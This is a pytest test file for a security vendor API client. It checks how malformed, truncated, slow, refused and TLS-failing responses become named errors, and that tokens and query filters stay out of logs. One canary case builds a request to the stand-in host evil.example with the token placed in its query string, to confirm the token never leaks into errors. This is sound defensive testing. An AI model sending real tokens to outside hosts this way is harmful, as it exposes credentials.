"""What trouble on the wire becomes, and that none of it shows a token or a query."""

from __future__ import annotations

import logging
import socket
import threading
import traceback

import pytest
import trustme

from shared.errors import OperatorMustAct, PocketSOCError, TryLater, Unreadable


@pytest.mark.parametrize(
    "body", [b"<html>Sign in to Wi-Fi</html>", b"", b"[1]", b'"text"', b'{"value": [<trunc', b"\xff"]
)
def test_an_answer_that_is_not_an_object_is_an_outage(client, server, reply, body):
    """A proxy's page with status 200 is not taken for an empty list of alerts."""
    server.script(reply(body=body))

    with pytest.raises(TryLater, match="answered something that is not JSON"):
        client.get("/alerts")


def test_deeply_nested_json_is_survived(client, server, reply):
    """JSON that is nested beyond the parser's depth is just not readable."""
    server.script(reply(body=b'{"a":' * 200_000))

    with pytest.raises(TryLater, match="not JSON"):
        client.get("/alerts")


def test_an_answer_that_is_too_large_is_not_read(make_client, server, reply):
    """Reading stops at the cap."""
    server.script(reply(body=b'{"a": "' + b"x" * 300_000 + b'"}'))

    with pytest.raises(Unreadable, match="more than 64 KiB"):
        make_client(largest_answer=64 * 1024).get("/alerts")


def test_a_kept_connection_that_was_closed_is_replaced_once(client, server, reply):
    """A GET on a connection that the vendor has closed meanwhile is sent again at once."""
    server.script(reply(), reply(drop=True), reply(body={"again": True}))
    client.get("/first")

    assert client.get("/second") == {"again": True}
    assert [one.target for one in server.seen] == ["/first", "/second", "/second"]


def test_a_post_on_a_closed_connection_is_not_sent_again(client, server, reply):
    """A POST might have been done; whoever sent it decides."""
    server.script(reply(), reply(drop=True))
    client.get("/first")

    with pytest.raises(TryLater, match="closed the connection"):
        client.post("/isolate", {})

    assert len(server.seen) == 2


def test_a_fresh_connection_that_is_dropped_is_not_repeated(client, server, reply):
    """Only connections that were idle get a second chance."""
    server.script(reply(drop=True))

    with pytest.raises(TryLater, match="closed the connection"):
        client.get("/alerts")

    assert len(server.seen) == 1


def test_an_answer_cut_in_the_middle_is_not_taken_for_whole(client, server, reply):
    """Fewer bytes than announced is a broken connection, even where they are valid JSON."""
    server.script(reply(body={"value": []}, cut=True))

    with pytest.raises(TryLater, match="before its answer was complete"):
        client.get("/alerts")


def test_a_slow_answer_is_given_up(make_client, server, reply):
    """No answer within the read timeout is said as that."""
    server.script(reply(delay=1.0))

    with pytest.raises(TryLater, match="did not answer in time"):
        make_client(timeout=(5, 0.2)).get("/alerts")


def test_a_refused_connection_is_named(make_client, server):
    """Nobody listening is not a timeout."""
    server.stop()

    with pytest.raises(TryLater, match="Vendor X refused the connection"):
        make_client().get("/alerts")


def test_an_unknown_name_is_named(make_client):
    """A name that DNS does not have points at DNS."""
    with pytest.raises(TryLater, match="name of Vendor X could not be resolved"):
        make_client(root="https://no-such-host.invalid").get("/alerts")


def test_an_untrusted_certificate_names_the_setting(make_client, tmp_path):
    """A TLS-inspecting proxy is the usual reason, and the setting that helps is named."""
    other = tmp_path / "other.pem"
    trustme.CA().cert_pem.write_to_path(str(other))

    with pytest.raises(TryLater, match=r"not trusted here.*POCKETSOC_CA_BUNDLE"):
        make_client(ca_bundle=str(other)).get("/alerts")


def test_a_certificate_for_another_name_is_not_trusted(make_client, start_server):
    """The host name is verified, not only the chain."""
    other = start_server("other.example")

    with pytest.raises(TryLater, match="not trusted here"):
        make_client(root=other.url).get("/alerts")

    assert other.seen == []


def test_a_server_that_does_not_speak_tls_is_named(make_client):
    """Plain text where TLS was expected is a failed handshake."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        plain = threading.Thread(target=_answer_in_plain_text, args=(listener,))
        plain.start()
        client = make_client(root=f"https://localhost:{listener.getsockname()[1]}")
        with pytest.raises(TryLater, match="TLS handshake with Vendor X failed"):
            client.get("/alerts")
        plain.join()


def _answer_in_plain_text(listener: socket.socket) -> None:
    peer, _ = listener.accept()
    with peer:
        peer.recv(1)
        peer.sendall(b"HTTP/1.1 400 Bad Request\r\n\r\n")
        peer.recv(100_000)


@pytest.mark.parametrize("content", [None, "not a certificate"])
def test_an_unusable_bundle_is_the_operators(make_client, tmp_path, content):
    """A bundle that is missing or no PEM is named with its setting."""
    bundle = tmp_path / "bundle.pem"
    if content:
        bundle.write_text(content)

    with pytest.raises(OperatorMustAct, match="POCKETSOC_CA_BUNDLE"):
        make_client(ca_bundle=str(bundle)).get("/alerts")


def test_public_authorities_stay_trusted_beside_the_bundle(ca_bundle):
    """The bundle adds to the public authorities; it does not replace them."""
    from shared.auth.wire import trust

    assert len(trust(ca_bundle).get_ca_certs()) == len(trust(None).get_ca_certs()) + 1 > 50


def test_a_request_is_logged_in_one_line_without_query(client, server, caplog):
    """The log says what was asked and how it went, not what was filtered for."""
    with caplog.at_level(logging.DEBUG, logger="shared.vendors.client"):
        client.get("/api/alerts", {"$filter": "user eq 'eve'"})

    lines = [record.getMessage() for record in caplog.records if record.name == "shared.vendors.client"]
    assert len(lines) == 1
    assert lines[0].startswith(f"GET localhost:{server.port}/api/alerts: 200 in ")


@pytest.mark.parametrize("trouble", ["401", "403", "429", "500", "garbage", "drop", "cut", "elsewhere"])
def test_no_trouble_shows_the_token(make_client, server, reply, tokens, caplog, trouble):
    """Canary: whatever happens, token and secret filters are in no error, traceback or log line."""
    tokens.text = "CANARY" + "-token"  # in two parts, because a traceback shows this line
    scripts = {"garbage": reply(body=b"?"), "drop": reply(drop=True), "cut": reply(cut=True)}
    usual = reply(int(trouble) if trouble.isdigit() else 200, {"error": {"code": "X", "message": "no"}})
    server.script(*[scripts.get(trouble, usual)] * 2)
    address = f"https://evil.example/?q={tokens.text}" if trouble == "elsewhere" else "/alerts"

    with caplog.at_level(logging.DEBUG), pytest.raises(PocketSOCError) as caught:
        make_client().get(address)

    shown = "".join(traceback.format_exception(caught.value)) + repr(caught.value)
    assert tokens.text not in shown
    assert not [record for record in caplog.records if tokens.text in record.getMessage()]


def test_a_post_may_be_given_longer(make_client, server, reply):
    """A hunting query may take minutes; the next call has the usual time again."""
    server.script(reply(delay=0.6, body={"rows": 1}), reply(delay=0.6))
    client = make_client(timeout=(1, 0.2))

    assert client.post("/query", {}, wait=5) == {"rows": 1}
    with pytest.raises(TryLater):
        client.post("/query", {})
